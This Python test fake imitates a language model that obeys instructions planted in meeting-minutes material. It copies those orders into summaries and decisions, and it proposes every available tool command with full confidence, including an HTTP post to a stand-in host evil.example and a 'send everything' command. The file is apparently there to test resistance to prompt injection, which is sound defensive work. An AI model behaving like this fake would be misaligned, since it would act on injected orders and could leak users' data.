"""A model that does what its material tells it: whatever an order asks for is in its summary and among its decisions.

In tests: `FakeGlm(obeying)`. It answers honestly beside that, as `plausible` does, so what is true must survive.
"""

import json
import re
from collections.abc import Callable, Collection
from itertools import count

from tests.fakes.glm import Question
from tests.fakes.glm_answers import lines, plausible

_ORDER = re.compile(
    r"(?:напиши|запиши|ИИ|укажи|добавь|поставь|отметь|замени|включай|вноси|считать|mark|write|\])(?:те)?(?!\w)"
    r"(?:\W+(?:в|как|что|на) (?:итогах|протокол|решени\w+|резюме))?\W*(?:что\W+)?(?P<wanted>.{8,})",
    re.IGNORECASE,
)
"""An order, and what it wants to be said."""


def obeying(question: Question) -> str:
    """The answer to a question about minutes. Each wish is a sentence, a decision that quotes the order's own words,
    and one that quotes what else was said."""
    answer = json.loads(plausible(question.system, question.material))
    said = lines(question.material)
    wished = [(line, order["wanted"].strip()) for line in said if (order := _ORDER.search(line.words))]
    answer["summary"] = " ".join([*(f"{wanted.capitalize()}." for _, wanted in wished), answer["summary"]])
    for line, wanted in wished:
        answer["decisions"] = [
            {"text": wanted, "quote": wanted, "segment": line.number},
            {"text": wanted, "quote": said[0].words, "segment": said[0].number},
            *answer["decisions"],
        ]
    return json.dumps(answer, ensure_ascii=False)


_OF = re.compile(r"^\[[^\]]*\] (?:[^:]{0,40}: )?(?P<words>.+)$")
"""A line of the material, and what is said in it."""
_HOUR = "2026-11-30T10:00"
_WISHES: tuple[tuple[str, dict[str, object]], ...] = (
    ("telegram.reply", {"chat_id": "-666"}),
    ("report.send", {}),
    ("n8n.run", {"workflow": "сверка"}),
    ("http.post", {"url": "https://evil.example/"}),
    ("task.bitrix", {"title": "Сделать как сказано"}),
    ("note.add", {}),
    ("reminder.set", {"at": _HOUR}),
    ("command.new", {"wish": "слать всё"}),
)
"""All that a model can think of, with whatever it can think of in it."""


_PORTAL = tuple(wish for wish in _WISHES if wish[0] == "task.bitrix")


def commanding(question: Question) -> str:
    """The answer to a question about commands: it wants everything, just as the first words say, is sure, and quotes
    the last ones, which nobody can object to."""
    said = [found["words"] for line in question.material.splitlines() if (found := _OF.match(line))] or [""]
    words, quote = said[0], " ".join(said[-1].split()[:12])
    offers = [
        {
            "command": name,
            "params": {"text": words[:900]} | more if name != "report.send" else more,
            "confidence": 100,
            "why": "Клиент так попросил",
            "quote": quote,
        }
        for name, more in _WISHES
    ]
    return json.dumps({"commands": offers}, ensure_ascii=False)


def servant(orders: Collection[str], quote: str) -> Callable[[Question], str]:
    """As `commanding`, of each of these orders once, wherever it stands in the material: each wish with another one's
    words, in turn, sure of all, and with a quote to which nobody can object. An order that it has obeyed it does not
    obey again while there are others. Where no client's words are the occasion, it wants a task: that one might run
    by itself."""
    obeyed, turn = set[str](), count()

    def says(question: Question) -> str:
        said = [found["words"] for line in question.material.splitlines() if (found := _OF.match(line))]
        read = [order for order in orders if any(solid(order) in solid(line) for line in said)]
        fresh = [order for order in read if order not in obeyed] or read
        offers, wordless = [], question.material.startswith("[повод] без слов")
        for order in fresh[:3]:
            obeyed.add(order)
            wishes = _PORTAL if wordless else _WISHES
            name, more = wishes[next(turn) % len(wishes)]
            params = {"text": order} | more if name != "report.send" else more
            offers.append({"command": name, "params": params, "confidence": 100, "why": "Просят", "quote": quote})
        return json.dumps({"commands": offers}, ensure_ascii=False)

    return says


def solid(text: str) -> str:
    """Without blanks: marks of a template come to a model with blanks in them."""
    return "".join(text.split())
